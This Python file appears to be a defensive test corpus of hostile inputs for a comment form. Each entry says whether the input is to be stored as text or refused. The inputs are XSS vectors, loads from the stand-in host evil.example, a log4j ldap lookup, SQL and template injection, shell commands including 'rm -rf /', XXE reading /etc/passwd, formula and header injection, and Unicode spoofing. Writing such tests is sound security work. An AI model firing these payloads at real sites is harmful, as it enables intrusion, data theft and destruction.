"""The corpus: what a hostile reader writes.

Rule: bytes as they come in a form's field, with what must become of them as a comment's text and as a name:
"stored" (and shown as the plain text it is) or "refused" (and said so, with what was wrong). Each one that
tries to run does so by calling `alert`, by asking for something at "evil.example", or by leaving an element
with the id "pwned", so that a browser that is watched shows it.
"""

import unicodedata
from dataclasses import dataclass
from typing import Final, Literal

Fate = Literal["stored", "refused"]


@dataclass(frozen=True)
class Payload:
    """One thing to write. `kept`: what of it stands in the comment, where that is not the text itself."""

    what: str
    data: bytes
    text: Fate = "stored"
    name: Fate = "stored"
    kept: str | None = None

    @property
    def words(self) -> str:
        """What is to be shown, where it is stored as text."""
        return self.data.decode() if self.kept is None else self.kept


def _p(
    what: str, words: str, text: Fate = "stored", name: Fate | None = None, kept: str | None = None
) -> Payload:
    """A payload of words; as a name it is refused where it is longer than a name may be."""
    long = len(words) > 40
    return Payload(
        what, words.encode(), text, name or ("refused" if long or text == "refused" else "stored"), kept
    )


MARKUP: Final = (
    _p("script", "<script>alert(1)</script>"),
    _p("script from elsewhere", "<script src=//evil.example/x.js></script>"),
    _p("image", "<img src=x onerror=alert(1)>"),
    _p("image of elsewhere", "<img src=https://evil.example/p.png>"),
    _p("svg", "<svg onload=alert(1)>"),
    _p("svg script", "<svg><script>alert(1)</script></svg>"),
    _p("math", "<math><mtext><table><mglyph><style><img src onerror=alert(1)>"),
    _p("frame", "<iframe src=javascript:alert(1)>"),
    _p("srcdoc", "<iframe srcdoc='<script>parent.alert(1)</script>'>"),
    _p("object", "<object data=data:text/html,<script>alert(1)</script>>"),
    _p("embed", "<embed src=//evil.example/e.swf>"),
    _p("base", "<base href=//evil.example/>"),
    _p("meta refresh", '<meta http-equiv="refresh" content="0;url=//evil.example/">'),
    _p("link", "<link rel=stylesheet href=//evil.example/s.css>"),
    _p("form", "<form action=//evil.example/><input name=secret><button>Go</button></form>"),
    _p("details", "<details open ontoggle=alert(1)>"),
    _p("autofocus", "<input autofocus onfocus=alert(1)>"),
    _p("video", "<video><source onerror=alert(1)>"),
    _p("marquee", "<marquee onstart=alert(1)>"),
    _p("template", "<template><script>alert(1)</script></template>"),
    _p("an element", "<b id=pwned>bold</b>"),
    _p("unclosed", "<b id=pwned"),
    _p("comment end", "--><b id=pwned>"),
    _p("cdata end", "]]><b id=pwned>"),
    _p("title end", "</title><b id=pwned>"),
    _p("textarea end", "</textarea><script>alert(1)</script>"),
    _p("style end", "</style><script>alert(1)</script>"),
    _p("noscript end", "</noscript><img src=x onerror=alert(1)>"),
    _p("script end", "</script><script>alert(1)</script>"),
    _p("script in script", "<!--<script>alert(1)//-->"),
    _p("double escape", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    _p("entity without end", "&#60script&#62alert(1)"),
    _p("named entities", "&lbrace;&lbrace;&NewLine;&Tab;javascript&colon;alert(1)"),
    _p("long entity", "&#x3c;&#x0000003c;&#0000060;b id=pwned>"),
    _p("half a tag", "<"),
    _p("mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    _p("namespace", '<svg><style><img title="</style><img src onerror=alert(1)>">'),
    _p("xslt", '<?xml-stylesheet href="//evil.example/x.xsl"?>'),
    _p("doctype", "<!DOCTYPE html><b id=pwned>"),
)
ATTRIBUTES: Final = (
    _p("double quote", '" onmouseover="alert(1)'),
    _p("single quote", "' onfocus='alert(1)' autofocus='"),
    _p("backtick", "` onload=`alert(1)"),
    _p("no quote", "x onmouseover=alert(1) "),
    _p("style", '"style="animation:x 1s;background:url(//evil.example/b)"'),
    _p("equals", "=alert(1)"),
    _p("class", '" class="brand" id="pwned'),
    _p("id", "comment-0000 id=pwned"),
)
ADDRESSES: Final = (
    _p("javascript", "javascript:alert(1)"),
    _p("javascript in a line", "java\nscript:alert(1)", name="stored"),
    _p("javascript in parts", "jav&#x09;ascript:alert(1)"),
    _p("vbscript", "vbscript:msgbox(1)"),
    _p("data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    _p("link with quote", 'https://evil.example/"onmouseover="alert(1)'),
    _p("link with apostrophe", "https://evil.example/'onmouseover='alert(1)"),
    _p("link with tag", "https://evil.example/<script>alert(1)</script>"),
    _p("link with a name in it", "https://bridge.example@evil.example/"),
    _p("link in look-alikes", "https://bridgе.example/"),
    _p("link turned around", "https://evil.example/\u202egpj.exe", kept="https://evil.example/gpj.exe"),
    _p("link to nowhere", "https://"),
    _p("link of protocols", "//evil.example/x"),
    _p("link of many", "http://evil.example/ " * 60),
    _p("link of length", "https://evil.example/" + "a" * 1_400),
    _p("link in parentheses", "(https://evil.example/)((((((https://evil.example/))))))"),
    _p("link with everything", "https://evil.example/?a=1&amp;b=2&lt;x&#39;=%00%0d%0a#<b>"),
    _p("markdown", "[click](javascript:alert(1)) ![x](//evil.example/i.png)"),
    _p("bbcode", "[url=javascript:alert(1)]x[/url][img]//evil.example/i.png[/img]"),
    _p("file", "file:///etc/passwd"),
    _p("ipv6", "http://[::1]:25/%0D%0AHELO"),
)
LETTERS: Final = (
    _p("overrides", "abc\u202edef\u202c\u2066ghi\u2069", kept="abcdefghi"),
    _p("override alone", "\u202e\u202d\u2066\u2067", text="refused"),
    _p("a file turned around", "invoice\u202egpj.exe", kept="invoicegpj.exe"),
    _p("marks of direction", "a\u200fb\u200ec\u061cd"),
    _p("zero width", "p\u200by\u2060p\ufeffa\u00adl", kept="pypa\u00adl"),
    _p("zero width alone", "\u200b\u200b\u2060\ufeff", text="refused"),
    _p("joiners", "می\u200cخواهم نمی\u200dشود"),
    _p("fillers alone", "\u3164\u115f\u2800", text="refused"),
    _p("look-alikes", "Аdmіnіstrаtоr"),
    _p(
        "zalgo",
        "Z" + "\u0310\u0334\u0489" * 200 + "algo",
        name="stored",
        kept=unicodedata.normalize("NFC", "Z" + ("\u0310\u0334\u0489" * 3)[:8] + "algo"),
    ),
    _p("marks alone", "\u0301" * 30, text="refused"),
    _p("emoji", "👩🏽‍❤️‍💋‍👩🏿🏳️‍🌈🏴󠁧󠁢󠁷󠁬󠁳󠁿👨‍👩‍👧‍👦"),
    _p("a family of five hundred", "👨" + "\u200d👨" * 500, name="refused"),
    _p("tags", "hi\U000e0041\U000e0042\U000e007f there", kept="hi there"),
    _p("variation", "a\ufe0f\ufe0e\U000e0100b", kept="a\ufe0f\ufe0eb"),
    _p("private use", "\ue000\uf8ff\U000f0000 x"),
    _p("noncharacters", "a\ufdd0\ufffe\U0001ffffb", kept="ab"),
    _p(
        "line ends", "one\u2028two\u2029three\x85four\x0bfive\x0csix", kept="one\ntwo\nthree\nfour\nfive\nsix"
    ),
    _p("many lines", "a\n" * 700, name="refused", kept=("a\n" * 700).strip()),
    _p("spaces of all widths", "a\u00a0\u2003\u3000\u205fb"),
    _p("turkish", "İıŞşĞğ ﬁ ß ŉ ǰ"),
    _p("arabic", "ﷺ ﷽ ﷽ ﷽"),
    _p("widest", "𒐫﷽⸻꧅" * 10),
    _p("hebrew and english", "שלום abc 123 עולם!"),
    _p("interlinear", "\ufff9a\ufffab\ufffbc", kept="abc"),
)
CONTROLS: Final = (
    _p("nul", "before\x00after", kept="beforeafter"),
    _p("nul in a tag", "<scr\x00ipt>alert(1)</scr\x00ipt>", kept="<script>alert(1)</script>"),
    _p("controls", "a\x01\x02\x07\x08\x0e\x1b[31mred\x7f\x9bb", kept="a[31mredb"),
    _p("controls alone", "\x00\x01\x1b\x7f", text="refused"),
    _p("empty", "", text="refused"),
    _p("blank", " \n\t \u3000", text="refused"),
    Payload("invalid utf-8", b"caf\xe9 <b>", "refused", "refused"),
    Payload("overlong slash", b"\xc0\xaf\xe0\x80\xaf", "refused", "refused"),
    Payload("half a character", b"abc\xf0\x9f\x98", "refused", "refused"),
    Payload("lone surrogates", b"a\xed\xa0\x80b\xed\xb0\x80c", "refused", "refused"),
    Payload("utf-16", "<script>".encode("utf-16"), "refused", "refused"),
    Payload("beyond unicode", b"\xf4\x90\x80\x80", "refused", "refused"),
    Payload("utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "stored", "refused"),
)
PROGRAMS: Final = (
    _p("jinja", "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"),
    _p("jinja attribute", "{{ ''.__class__.__mro__[1] }}"),
    _p("jinja comment", "{# hidden #}{% raw %}"),
    _p("django", "{% load static %}{{ request.user }}{% csrf_token %}"),
    _p("javascript template", "${alert(1)}`${alert(1)}`"),
    _p("erb", "<%= system('id') %>"),
    _p("ssi", '<!--#exec cmd="id" -->'),
    _p("php", "<?php system('id'); ?>"),
    _p("format", "%s%n%x {0} {0.__class__} %(name)s"),
    _p("shell", "`id` $(id) ; rm -rf / | cat & echo"),
    _p("log4j", "${jndi:ldap://evil.example/a}"),
    _p("sql", "'; DROP TABLE discussion_comment; --"),
    _p("sql or", "' OR 1=1 --"),
    _p("sql like", "%_%' ESCAPE '\\"),
    _p(
        "header",
        "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>alert(1)</script>",
        name="refused",
        kept="x\nSet-Cookie: pwned=1\n\n<script>alert(1)</script>",
    ),
    _p("header encoded", "x%0d%0aSet-Cookie:%20pwned=1"),
    _p("json", '","admin":true,"x":"'),
    _p("json breaker", '</script>\u2028\u2029"}]}<b id=pwned>', kept='</script>\n\n"}]}<b id=pwned>'),
    _p("javascript string", "\\u003cscript\\u003e\\x3cscript\\x3e';alert(1)//\\"),
    _p("css", "}</style>*{background:url(//evil.example/c)}"),
    _p("css escape", "\\3c script\\3e expression(alert(1))"),
    _p("formula", '=HYPERLINK("//evil.example/","x")'),
    _p("formula of another kind", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _p("formula minus", "-2+3+cmd|' /C calc'!A0"),
    _p("xml entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    _p("billion laughs", '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">&b;'),
    _p("xml declaration", '<?xml version="1.0"?><feed/>'),
    _p("path", "../../../../etc/passwd\\..\\..\\windows"),
    _p("regex", "a" * 700 + "!" + "(a+)+$", name="refused"),
    _p("backslashes", "\\" * 500, name="refused"),
    _p("prototype", "__proto__[pwned]=1&constructor.prototype.x=1"),
)
SIZES: Final = (
    _p("a line too long for a comment", "x" * 1_501, text="refused"),
    _p("words too long for a line", "w" * 1_500, name="refused"),
    _p("characters of many code points", "e\u0301" * 1_400, name="refused", kept="é" * 1_400),
    Payload("a line of a megabyte", b"y" * 1_000_000, "refused", "refused"),
    Payload("a megabyte of percent signs", b"%" * 400_000, "refused", "refused"),
    Payload("a megabyte of marks", ("a" + "\u0301" * 400_000).encode(), "refused", "refused"),
)
CORPUS: Final[tuple[Payload, ...]] = (
    *MARKUP,
    *ATTRIBUTES,
    *ADDRESSES,
    *LETTERS,
    *CONTROLS,
    *PROGRAMS,
    *SIZES,
)

# What is no address to write to, though parts of it look like one.
CONTACTS: Final = (
    "me@example.org\r\nBcc: all@evil.example",
    "me@example.org%0d%0aBcc:all@evil.example",
    '"><script>alert(1)</script>@evil.example',
    "<me@example.org>",
    "me@example.org, you@evil.example",
    "me@example.org;you@evil.example",
    "me@@example.org",
    "me@exam\u202eple.org",
    "me@example.org\x00",
    "javascript:alert(1)",
    "a" * 65 + "@example.org",
    "a@" + "b." * 200 + "org",
    "{{ 7*7 }}@",
    "|id@example",
)
